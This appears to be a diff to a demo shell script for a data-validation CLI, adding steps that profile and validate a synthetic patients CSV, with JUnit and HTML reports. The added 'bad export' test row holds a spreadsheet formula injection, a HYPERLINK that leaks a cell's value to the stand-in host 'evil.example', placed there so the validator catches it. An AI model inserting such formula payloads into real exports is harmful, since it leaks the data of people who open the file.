@@ -79,4 +79,27 @@ echo; echo "== 11. The token is known and being rotated: record a baseline, late
 run "$BW" scan secrets --write-baseline "$STATE/secrets-baseline.json" "$leak"
 run "$BW" scan secrets --baseline "$STATE/secrets-baseline.json" "$leak"
 
+echo; echo "== 12. Profile the training data: types, nulls, distinct counts, quantiles, patterns"
+run "$BW" profile "$EX/data/patients.csv" --columns age,sex,hba1c,admit_date,primary_diagnosis_icd10
+run "$BW" profile "$EX/data/patients.csv" --suggest "$STATE/patients.draft.suite.yml" -q --format json -o "$STATE/patients.profile.json"
+echo "draft data contract from the profile: $STATE/patients.draft.suite.yml"
+
+echo; echo "== 13. Validate the data against its contract (with drift against the reference snapshot)"
+run "$BW" validate "$EX/data/patients.csv" --suite "$EX/config/patients.suite.yml" \
+  --reference "$EX/data/patients_reference.csv"
+
+echo; echo "== 14. A bad export: a duplicated id, a spreadsheet formula in a cell, and one impossible age
+"
+echo "       (the age check has mostly: 0.99, so one bad age in 2002 rows is tolerated)"
+bad="$tamper/patients_bad.csv"
+cp "$EX/data/patients.csv" "$bad"
+printf 'P000001,70,M,Emergency,10,0,10,6,5.7,home,I50.9,2024-06-11,0\n' >> "$bad"
+printf 'P999998,250,F,Urgent,3,0,4,2,6.1,"=HYPERLINK(""http://evil.example/?""&A1)",E11.9,2024-07-01,1\n' >> "$bad"
+run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv"
+run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv" \
+  --format junit -o "$STATE/validate.junit.xml"
+run "$BW" validate "$bad" --suite "$EX/config/patients.suite.yml" --reference "$EX/data/patients_reference.csv" \
+  --format html -o "$STATE/validate.html"
+echo "JUnit for CI in $STATE/validate.junit.xml, a self-contained report in $STATE/validate.html"
+
 echo; echo "demo done: manifests and reports are in $STATE/"
